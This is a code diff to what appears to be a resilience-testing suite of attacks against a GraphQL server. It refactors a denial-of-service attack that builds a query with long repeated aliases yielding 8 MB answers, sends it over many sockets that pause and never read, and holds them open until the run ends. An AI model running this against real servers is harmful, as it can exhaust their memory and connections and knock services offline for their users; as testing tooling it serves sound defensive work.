@@ -7,6 +7,11 @@ import type { PersonName } from './surroundings.ts';
 
 const AT_ONCE = 20;
 
+/** Of 8 MB: the names of 28 aliases, 570 letters each, in each of 500 rows. */
+export const largeAnswer: GraphQLRequest = {
+  query: `{objects(first:500){nodes{${Array.from({ length: 28 }, (_, i) => `${'a'.repeat(570)}${i}:kind`).join(' ')}}}}`,
+};
+
 export const places: readonly Attack[] = [
   {
     name: 'reset-uploads',
@@ -28,11 +33,7 @@ export const places: readonly Attack[] = [
     title: 'more requests than one caller has places, for answers of 8 MB that nobody reads',
     needs: {},
     async run(strike) {
-      // The names of 28 aliases, 570 letters each, in each of 500 rows.
-      const aliases = Array.from({ length: 28 }, (_, i) => `${'a'.repeat(570)}${i}:kind`).join(' ');
-      const query = `{objects(first:500){nodes{${aliases}}}}`;
-      const body = Buffer.from(JSON.stringify({ query } satisfies GraphQLRequest));
-      const request = Buffer.concat([Buffer.from(headersOf(strike, 'mallory', body)), body]);
+      const request = requestOf(strike, 'mallory', JSON.stringify(largeAnswer));
       const sockets = await Promise.all(Array.from({ length: strike.many(140) }, () => sendAndStay(strike, request)));
       while (!strike.isOver) await delay(50);
       for (const socket of sockets) socket.destroy();
@@ -48,6 +49,11 @@ export const places: readonly Attack[] = [
   },
 ];
 
+export function requestOf(strike: Strike, person: PersonName, text: string, headers = ''): Buffer {
+  const body = Buffer.from(text);
+  return Buffer.concat([Buffer.from(headersOf(strike, person, body, headers)), body]);
+}
+
 function headersOf({ target }: Strike, person: PersonName, body: Buffer, more = ''): string {
   const { host } = new URL(target.url);
   return `POST /graphql HTTP/1.1\r\nhost: ${host}\r\nauthorization: Bearer ${target.tokens[person]}\r\ncontent-type: application/json\r\n${more}content-length: ${body.length}\r\n\r\n`;
@@ -62,7 +68,7 @@ async function sendAndReset(strike: Strike, request: Buffer, afterMs: number): P
 }
 
 /** Never reads more than a little. */
-async function sendAndStay(strike: Strike, request: Buffer) {
+export async function sendAndStay(strike: Strike, request: Buffer) {
   const socket = await connected(strike);
   socket.pause();
   socket.write(request);
